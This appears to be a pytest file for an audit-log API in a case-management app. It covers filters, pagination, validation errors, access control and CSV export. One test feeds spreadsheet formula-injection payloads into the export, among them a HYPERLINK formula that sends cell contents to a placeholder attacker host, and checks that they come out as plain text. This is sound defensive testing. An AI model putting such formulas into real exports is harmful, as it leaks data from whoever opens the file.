"""The audit log's filters, pages and CSV export, through the API on moto."""
import copy
import csv
import io
import json
from datetime import datetime, timedelta, timezone
from urllib.parse import urlencode

import pytest

from chalicelib.base import audit
from chalicelib.base.audit import Action, AuditEntry
from chalicelib.base.errors import ServiceUnavailable
from chalicelib.base.officers import Officer
from chalicelib.investigations import audit_log
from tests.conftest import bearer
from tests.service.test_sample_events import load

JONES = Officer(username="pc.jones", sub="sub-jones", groups=frozenset({"officer"}))
PATEL = Officer(username="sgt.patel", sub="sub-patel", groups=frozenset({"supervisor"}))
NOW = datetime.now(timezone.utc)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def _officer_pool(officers):
    """Every test here runs with the officers' pool."""


@pytest.fixture
def log():
    """Entries of two officers in two cases over 40 days, written as the app writes them;
    their reasons by name."""
    seeded = [
        (JONES, Action.SEARCH, "20/1/26", "old search", 40 * 24, ["ra"]),
        (JONES, Action.SEARCH, "20/2/26", "search ten days ago", 10 * 24, ["ra", "rb"]),
        (JONES, Action.VIEW_CASE, "20/1/26", "case two hours ago", 2, ["ra"]),
        (PATEL, Action.VIEW_CASE, "20/2/26", "case an hour ago", 1, ["rb"]),
    ]
    for officer, action, case_ref, reason, hours_ago, registrations in seeded:
        audit.record(officer, action, case_ref=case_ref, reason=reason, now=NOW - timedelta(hours=hours_ago),
                     registration_ids=registrations)


def read(client, user="auditor.khan", **params):
    response = client.http.get("/officer/audit?" + urlencode(params), headers=bearer(user))
    assert response.status_code == 200, response.body
    return json.loads(response.body)


def reasons(page):
    return [e["reason"] for e in page["entries"] if e["action"] != "read_audit"]


def export(client, user="auditor.khan", **params):
    return client.http.get("/officer/audit/export?" + urlencode(params), headers=bearer(user))


def rows_of(response):
    return list(csv.reader(io.StringIO(response.body.decode("utf-8"))))


def ago(hours):
    return (NOW - timedelta(hours=hours)).isoformat()


def test_each_filter_and_their_combinations(client, log):
    # An officer (the last 31 days unless 'from' says otherwise)
    assert reasons(read(client, officer="pc.jones")) == ["case two hours ago", "search ten days ago"]
    assert reasons(read(client, officer="pc.jones", **{"from": ago(50 * 24)}))[-1] == "old search"
    # A case
    assert reasons(read(client, case_ref="20/2/26")) == ["case an hour ago", "search ten days ago"]
    # A registration (the whole retention period)
    assert reasons(read(client, registration_id="ra")) == ["case two hours ago", "search ten days ago", "old search"]
    # A time range alone, at most 31 days
    assert reasons(read(client, **{"from": ago(3), "to": ago(0.5)})) == ["case an hour ago", "case two hours ago"]
    # Combined: officer and case, registration and officer, registration and time
    assert reasons(read(client, officer="pc.jones", case_ref="20/1/26", **{"from": ago(50 * 24)})) == [
        "case two hours ago", "old search"]
    assert reasons(read(client, registration_id="rb", officer="sgt.patel")) == ["case an hour ago"]
    assert reasons(read(client, registration_id="ra", **{"from": ago(11 * 24), "to": ago(24)})) == ["search ten days ago"]


@pytest.mark.parametrize("filters", [{"officer": "pc.jones", "from": ago(50 * 24)}, {"registration_id": "ra"},
                                     {"from": ago(11 * 24), "to": ago(0.5)}], ids=["officer", "registration", "days"])
def test_pages_follow_each_other_without_gap_or_repeat(client, log, filters):
    whole = read(client, **filters)
    assert whole["truncated"] is False and "next" not in whole
    expected = [e["entry_id"] for e in whole["entries"] if e["action"] != "read_audit"]
    assert len(expected) == 3
    seen, cursor = [], None
    while True:
        page = read(client, limit=1, **filters, **({"before": cursor} if cursor else {}))
        seen += [e["entry_id"] for e in page["entries"]]
        if not page["truncated"]:
            break
        cursor = page["next"]
    assert [s for s in seen if s in expected] == expected


@pytest.mark.parametrize("params, field", [
    ({"officer": ""}, "officer"),
    ({"registration_id": "R-1"}, "registration_id"),
    ({"from": "yesterday"}, "from"),
    ({"from": "2026-01-01T00:00:00Z", "to": "2026-03-01T00:00:00Z"}, "from"),
    ({"from": "2026-03-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}, "to"),
    ({"limit": "1001"}, "limit"),
    ({"before": "not a cursor"}, "before"),
    ({"before": "bm90IGEga2V5"}, "before"),  # base64 of "not a key"
    ({"reason": "x"}, "reason"),
])
def test_bad_filters_are_400_naming_the_field(client, params, field):
    for path in ("/officer/audit", "/officer/audit/export"):
        if path.endswith("export") and field in ("limit", "before"):
            continue
        response = client.http.get(f"{path}?" + urlencode(params), headers=bearer("sgt.patel"))
        assert response.status_code == 400, (path, params, response.body)
        assert field in json.loads(response.body)["error"]["fields"], (path, response.body)


def test_the_csv_holds_exactly_the_filtered_rows(client, log):
    filters = {"officer": "pc.jones", "from": ago(50 * 24), "to": ago(0.5)}
    shown = read(client, user="sgt.patel", **filters)["entries"]
    response = export(client, user="sgt.patel", **filters)
    assert response.status_code == 200, response.body
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="sightline-audit-')
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = rows_of(response)
    assert header == list(audit_log.CSV_COLUMNS)
    assert [r[header.index("reason")] for r in rows] == ["case two hours ago", "search ten days ago", "old search"]
    expected = [[audit_log.neutralised(audit_log._cell(e[c])) for c in header] for e in shown]
    assert rows == expected
    # Lists are space-separated, the detail is JSON
    assert rows[1][header.index("registration_ids")] == "ra rb"
    assert json.loads(rows[0][header.index("detail")]) == {}


def test_formulas_come_out_as_text(client):
    # Given entries whose reason or case reference a spreadsheet would run
    for reason in (HYPERLINK, "+1+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain"):
        audit.record(JONES, Action.SEARCH, case_ref=HYPERLINK, reason=reason, now=NOW - timedelta(minutes=5))
    response = export(client, officer="pc.jones")
    header, *rows = rows_of(response)
    got = {r[header.index("reason")] for r in rows}
    assert got == {"'" + HYPERLINK, "'+1+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain"}
    assert {r[header.index("case_ref")] for r in rows} == {"'" + HYPERLINK}
    # Every cell is quoted (the comma and quotes inside the formula stay in one cell)
    assert response.body.decode().splitlines()[0].startswith('"entry_id","at",')


def test_the_export_is_audited_before_it_is_returned(client, log, monkeypatch):
    response = export(client, case_ref="20/2/26")
    assert response.status_code == 200
    [entry] = [e for e in AuditEntry.by_officer.query("auditor.khan") if e.action == "export_audit"]
    assert entry.case_ref == "20/2/26"
    assert entry.detail.as_dict() == {"filters": {"case_ref": "20/2/26"}, "rows": 2}
    # If the log cannot be written, no file is returned
    def fail(*args, **kwargs):
        raise ServiceUnavailable("The audit log cannot be written right now.")

    monkeypatch.setattr(audit_log, "record", fail)
    refused = export(client, case_ref="20/2/26")
    assert refused.status_code == 503 and b"entry_id" not in refused.body


def test_only_supervisors_and_auditors_export(client, log):
    assert export(client, user="sgt.patel", officer="pc.jones").status_code == 200
    assert export(client, user="pc.jones", officer="pc.jones").status_code == 403
    assert client.http.get("/officer/audit/export?officer=pc.jones").status_code == 401
    assert not [e for e in AuditEntry.by_officer.query("pc.jones") if e.action == "export_audit"]


def test_an_export_of_too_many_rows_asks_for_narrower_filters(client, log, monkeypatch):
    monkeypatch.setattr(audit_log, "MAX_EXPORT_ROWS", 2)
    response = export(client, registration_id="ra")
    assert response.status_code == 400 and "from" in json.loads(response.body)["error"]["fields"]
    assert export(client, registration_id="rb").status_code == 200
    assert not [e for e in AuditEntry.by_officer.query("auditor.khan")
                if e.action == "export_audit" and e.detail.as_dict()["filters"] == {"registration_id": "ra"}]


def test_behind_api_gateway_the_csv_is_text_not_base64(client):
    # Given API Gateway's proxy event for the export, asking for CSV
    import app as sightline_app
    from local.pump import LambdaContext

    audit.record(JONES, Action.SEARCH, case_ref="20/1/26", reason=HYPERLINK, now=NOW)
    event = copy.deepcopy(load("apigateway_officer_search.json"))
    event.update(resource="/officer/audit/export", path="/officer/audit/export", httpMethod="GET", body=None,
                 queryStringParameters={"officer": "pc.jones"},
                 multiValueQueryStringParameters={"officer": ["pc.jones"]})
    event["requestContext"].update(resourcePath="/officer/audit/export", httpMethod="GET")
    event["headers"].update({"Authorization": bearer("auditor.khan")["Authorization"], "Accept": "text/csv"})
    event["headers"].pop("Content-Type", None)
    event["multiValueHeaders"] = {k: [v] for k, v in event["headers"].items()}
    # When the function answers it
    response = sightline_app.app(event, LambdaContext("api_handler"))
    # Then the body is the CSV as text, which API Gateway passes through unchanged
    assert response["statusCode"] == 200, response
    # (Chalice sets isBase64Encoded only for its binary types, which text/csv is not)
    assert response.get("isBase64Encoded", False) is False and isinstance(response["body"], str)
    assert response["headers"]["Content-Type"] == "text/csv; charset=utf-8"
    assert response["body"].startswith('"entry_id","at",') and "'=HYPERLINK" in response["body"]
